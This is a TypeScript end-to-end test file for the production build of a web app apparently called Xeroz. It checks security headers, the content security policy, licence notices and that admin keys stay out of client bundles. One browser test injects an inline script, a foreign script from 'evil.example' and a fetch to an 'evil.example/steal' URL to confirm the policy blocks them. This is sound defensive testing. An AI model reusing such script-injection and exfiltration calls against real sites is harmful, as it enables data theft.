import { mkdir, mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Browser, Page } from 'playwright-core';
import * as v from 'valibot';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { answerJson, type Loopback, startLoopback } from '#src/lib/testing/loopback.ts';
import { poolListSchema } from '#src/contract/pools.ts';
import { latestRound } from '#src/beacon/rounds.ts';
import { fetchClock } from '#src/chain/program/fetch.ts';
import { toHex } from '#src/protocol/bytes.ts';
import { hermes } from '#src/prices/testing/price-server.ts';
import { hasChromium, launchChromium } from '#tests/e2e/support/chromium.ts';
import { type GeyserServer, startGeyserServer } from '#tests/support/geyser-server.ts';
import { build } from '#tests/e2e/support/test-build.ts';
import { createTestPool, eventually, startCluster, type TestCluster } from '../dev/cluster.ts';
import { type ServerProcess, startServerProcess } from './server-process.ts';

const ROOT = fileURLToPath(new URL('../../..', import.meta.url));

const PUBLIC_PATHS = [
  '/',
  '/how-it-works',
  '/pool-completion',
  '/activity',
  '/vrf-transparency',
  '/winners',
  '/suggestions',
  '/security',
  '/limits',
  '/pools',
];

/** Returns the names of the scripts that contain a text. */
async function scriptsWith(folder: string, text: string): Promise<string[]> {
  const scripts = (await readdir(folder)).filter((name) => name.endsWith('.js'));
  const texts = await Promise.all(scripts.map((name) => readFile(join(folder, name), 'utf8')));
  return scripts.filter((_, index) => texts[index]?.includes(text));
}

const LOCAL_ADMIN_KEY = 'ad'.repeat(32);

let cluster: TestCluster;
let dist: string;
let server: ServerProcess;
let prices: Loopback;
let geyser: GeyserServer;

beforeAll(async () => {
  cluster = await startCluster();
  prices = await startLoopback((_request, response) => answerJson(response, { solana: { usd: 150 } }));
  // Build below the project, where the server finds its packages.
  await mkdir(join(ROOT, 'dist'), { recursive: true });
  dist = await mkdtemp(join(ROOT, 'dist/test-'));
  await build(['--outDir', join(dist, 'app')], {
    VITE_CLUSTER: 'localnet',
    VITE_RPC_URL: `http://127.0.0.1:${cluster.port}`,
    VITE_WS_URL: '',
    VITE_API_BASE: '/api',
    VITE_BEACON_URLS: `${cluster.beaconUrl}, https://drand.example/relay`,
    VITE_PRICE_COINGECKO_URL: `${prices.url}/coingecko`,
    VITE_PRICE_COINBASE_URL: 'off',
    // The variable of the development server, which the build must ignore.
    LOCAL_ADMIN_KEY,
  });
  await build(['--config', 'vite.server.config.ts', '--outDir', join(dist, 'server')]);
  await createTestPool(cluster, { maxPlayers: 5, joiners: 1 });
  geyser = await startGeyserServer(`http://127.0.0.1:${cluster.port}`, 'token');
  server = await startServerProcess({
    main: join(dist, 'server/main.js'),
    environment: {
      NODE_ENV: 'production',
      STATE_DIR: cluster.stateDir,
      LOCALNET_PORT: String(cluster.port),
      APP_CONNECT_ORIGINS: 'https://prices.example',
      BEACON_URLS: cluster.beaconUrl,
      GEYSER_URL: geyser.url,
      GEYSER_TOKEN: 'token',
    },
  });
}, 240_000);
afterAll(async () => {
  server?.signal('SIGTERM');
  await server?.ended;
  await geyser?.close();
  await cluster?.close();
  await prices?.close();
  if (dist !== undefined) await rm(dist, { recursive: true, force: true });
});

describe('the built product', () => {
  it('the built product serves app, API and sockets from one port', async () => {
    await eventually(async () => {
      const pools: unknown = await (await fetch(`${server.url}/api/pools`)).json();
      expect(pools).toMatchObject({ data: [{ name: 'Test pool', currentParticipants: 2 }] });
    });
    await eventually(async () => {
      const health: unknown = await (await fetch(`${server.url}/api/health`)).json();
      expect(health).toMatchObject({ status: 'ok', cluster: 'localnet' });
    });
    // The stream's interface is a file that the build has to copy.
    expect(geyser.subscriptions).toMatchObject([{ blocks_meta: { blocks: {} } }]);
    const { unixTimestamp } = await fetchClock(cluster.connection);
    const round = latestRound(cluster.beacon.chain, unixTimestamp) ?? 0n;
    await eventually(async () => {
      // The server verifies the round in a worker thread, whose code is a separate file of the build.
      const storedRound: unknown = await (await fetch(`${server.url}/api/beacon/rounds/${round}`)).json();
      expect(storedRound).toMatchObject({ signature: toHex(cluster.beacon.sign(round)) });
    });
    const polled = await fetch(`${server.url}/api/socket.io/?EIO=4&transport=polling`);
    expect(polled.status).toBe(200);
    expect(polled.headers.get('x-content-type-options')).toBe('nosniff');
    const unknown = await fetch(`${server.url}/api/nothing`);
    expect(unknown.headers.get('x-content-type-options')).toBe('nosniff');
    expect(unknown.status).toBe(404);
    expect(await unknown.json()).toMatchObject({ error: { code: 'not_found' } });
  });

  it('sends its page with headers that restrict its scripts and connections', async () => {
    const page = await fetch(`${server.url}/pools`, { headers: { 'accept-encoding': 'br' } });
    expect(Object.fromEntries(page.headers)).toMatchObject({
      'content-encoding': 'br',
      'cache-control': 'no-cache',
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'permissions-policy': expect.stringContaining('camera=()'),
    });
    const policy = page.headers.get('content-security-policy') ?? '';
    expect(policy).toContain("script-src 'self';");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(/connect-src ([^;]*)/.exec(policy)?.[1]?.split(' ')).toEqual([
      "'self'",
      `ws://127.0.0.1:${server.port}`,
      `http://127.0.0.1:${cluster.port}`,
      `ws://127.0.0.1:${cluster.port + 1}`,
      new URL(cluster.beaconUrl).origin,
      'https://drand.example',
      'https://hermes.pyth.network',
      prices.url,
      'https://api.kraken.com',
      'https://prices.example',
    ]);
    const html = await page.text();
    const script = /src="(\/assets\/[^"]+\.js)"/.exec(html)?.[1] ?? '';
    const asset = await fetch(`${server.url}${script}`, { headers: { 'accept-encoding': 'br' } });
    expect(asset.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
    expect(asset.headers.get('content-encoding')).toBe('br');
  });

  it('the built product sends each page with its own head, and 404 with the page for what does not exist', async () => {
    const titleOf = async (path: string, language: string) => {
      const answer = await fetch(`${server.url}${path}`, { headers: { 'accept-language': language } });
      const html = await answer.text();
      expect(html).toContain('<div id="root"><div data-of="home en">');
      expect(html).toMatch(new RegExp(`data-paint="\\w+ ${language}" lang="${language}"`));
      return `${answer.status} ${/<title>([^<]*)</.exec(html)?.[1]}`;
    };
    expect(await titleOf('/', 'tr')).toMatch(/^200 \S/);
    expect(await titleOf('/winners', 'es')).toBe('200 Ganadores · Xeroz');
    await eventually(async () => {
      const { data } = v.parse(poolListSchema, await (await fetch(`${server.url}/api/pools`)).json());
      const [pool] = data;
      expect(await titleOf(`/pools/${pool?.poolId}`, 'ko')).toBe(`200 Test pool #${pool?.poolId} · Xeroz`);
    });
    expect(await titleOf('/nonexistent', 'en')).toBe('404 Page Not Found · Xeroz');
    const sitemap = await fetch(`${server.url}/sitemap.xml`);
    expect(await sitemap.text()).toContain(`<loc>http://127.0.0.1:${server.port}/pools</loc>`);
    const icon = await fetch(`${server.url}/favicon.ico`);
    expect([icon.status, icon.headers.get('content-type')]).toEqual([200, 'image/vnd.microsoft.icon']);
  });

  it('the built product serves the notices of all bundled packages, and of no others', async () => {
    const answer = await fetch(`${server.url}/third-party-notices.txt`);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    const text = await answer.text();
    const named = new Map(
      [...text.matchAll(/^(\S+) \d\S* \| (.+) \| \S+$/gm)].map(([, name, id]) => [name, id]),
    );
    for (const name of ['react', '@solana/web3.js', '@fontsource-variable/inter', 'tailwindcss', 'vite']) {
      expect([...named.keys()]).toContain(name);
    }
    expect(named.get('rpc-websockets')).toBe('LGPL-3.0-only');
    expect(text).toContain('GNU LESSER GENERAL PUBLIC LICENSE');
    // vitest is only a tool, and only the server needs the others.
    for (const name of ['vitest', 'fastify', 'pg']) expect([...named.keys()]).not.toContain(name);
    // Any other licence has conditions that docs/licences.md does not cover yet.
    expect(new Set(named.values())).toEqual(
      new Set([
        '(MIT OR Apache-2.0)',
        '0BSD',
        'Apache-2.0',
        'BSD-3-Clause',
        'ISC',
        'LGPL-3.0-only',
        'MIT',
        'OFL-1.1',
        'Unlicense',
        'licence as below',
      ]),
    );
    expect((await fetch(`${server.url}/sbom.cdx.json`)).status).toBe(404);
  });

  it('draws link previews in a thread of the build', async () => {
    const answer = await fetch(`${server.url}/api/previews/home.ja.png`);
    expect([answer.status, answer.headers.get('content-type')]).toEqual([200, 'image/png']);
    // A PNG names its size behind its signature and the name of its first part.
    const head = Buffer.from(await answer.arrayBuffer()).subarray(0, 24);
    expect(head.toString('latin1', 1, 4)).toBe('PNG');
    expect([head.readUInt32BE(16), head.readUInt32BE(20)]).toEqual([1_200, 630]);
  });

  it("contains neither the wallet of the local chain's admin nor a way to its key", async () => {
    const assets = join(dist, 'app/assets');
    expect(await scriptsWith(assets, 'Development Wallet')).not.toEqual([]);
    for (const text of ['Local Admin Wallet', 'LOCAL_ADMIN_KEY', LOCAL_ADMIN_KEY]) {
      expect(await scriptsWith(assets, text), text).toEqual([]);
    }
  });

  describe.runIf(hasChromium())('in a browser', () => {
    let browser: Browser;
    beforeAll(async () => {
      browser = await launchChromium();
    });
    afterAll(() => browser?.close());

    /** Collects all errors and refusals that the browser reports. */
    const complaintsOf = async (page: Page): Promise<string[]> => {
      const complaints: string[] = [];
      // Without internet access, the browser would report that the host name does not resolve.
      await page.route('https://hermes.pyth.network/**', (route) =>
        route.fulfill({ json: hermes('15000000000'), headers: { 'access-control-allow-origin': '*' } }),
      );
      page.on('pageerror', (error) => complaints.push(error.message));
      page.on('console', (message) => {
        if (message.type() === 'error') complaints.push(message.text());
      });
      await page.exposeFunction('complain', (text: string) => complaints.push(text));
      await page.addInitScript(() => {
        document.addEventListener('securitypolicyviolation', (event) => {
          const { complain } = window as unknown as { complain: (text: string) => void };
          complain(`${event.violatedDirective} refuses ${event.blockedURI}`);
        });
      });
      return complaints;
    };

    it('runs under its own headers on every page, and shows pools', async () => {
      const page = await browser.newPage({ baseURL: server.url });
      const complaints = await complaintsOf(page);
      const sockets: string[] = [];
      page.on('websocket', (socket) => sockets.push(socket.url()));
      for (const path of PUBLIC_PATHS) {
        await page.goto(path);
        await page.locator('main h1').first().waitFor();
      }
      await page.getByText('Test pool').first().waitFor();
      const notices = page.getByRole('link', { name: 'Third-party notices' });
      expect(await notices.getAttribute('href')).toBe('/third-party-notices.txt');
      await expect
        .poll(() => sockets.some((url) => url.startsWith(`ws://127.0.0.1:${cluster.port + 1}`)))
        .toBe(true);
      expect(complaints).toEqual([]);
      await page.close();
    });

    it('loads nothing of the admin area on players’ pages, and shows the sign-in only at its own address', async () => {
      const admin = await scriptsWith(join(dist, 'app/assets'), '/admin/sign-in');
      expect(admin).not.toEqual([]);
      const page = await browser.newPage({ baseURL: server.url });
      const complaints = await complaintsOf(page);
      const loaded: string[] = [];
      page.on('request', (request) => loaded.push(new URL(request.url()).pathname.split('/').at(-1) ?? ''));
      for (const path of PUBLIC_PATHS) {
        await page.goto(path);
        await page.waitForLoadState('networkidle');
      }
      expect(loaded.filter((name) => admin.includes(name) || /admin/i.test(name))).toEqual([]);
      expect(complaints).toEqual([]);
      await page.goto('/admin/xeroz/users');
      await page.getByRole('heading', { name: 'Admin sign-in' }).waitFor();
      expect(loaded).toEqual(expect.arrayContaining(admin));
      // The browser reports a 401 as an error; there must be no other error.
      expect(complaints.filter((text) => !text.includes('401'))).toEqual([]);
      await page.close();
    });

    it('the page can request the price sources that the build names', async () => {
      const page = await browser.newPage({ baseURL: server.url });
      const complaints = await complaintsOf(page);
      await page.goto('/');
      const answer = await page.evaluate(
        async (url) => (await (await fetch(url, { credentials: 'omit' })).json()) as unknown,
        `${prices.url}/coingecko`,
      );
      expect(answer).toEqual({ solana: { usd: 150 } });
      expect(complaints).toEqual([]);
      await page.close();
    });

    it('blocks everything else: inline scripts, and scripts or requests of other hosts', async () => {
      const page = await browser.newPage({ baseURL: server.url });
      const complaints = await complaintsOf(page);
      await page.goto('/');
      await page.evaluate(() => {
        const script = document.createElement('script');
        script.textContent = 'window.taken = true';
        document.head.append(script);
        const foreign = document.createElement('script');
        foreign.src = 'https://evil.example/x.js';
        document.head.append(foreign);
        fetch('https://evil.example/steal').catch(() => undefined);
      });
      await expect.poll(() => complaints.filter((text) => text.includes(' refuses ')).length).toBe(3);
      expect(await page.evaluate('window.taken')).toBeUndefined();
      await page.close();
    });
  });
});
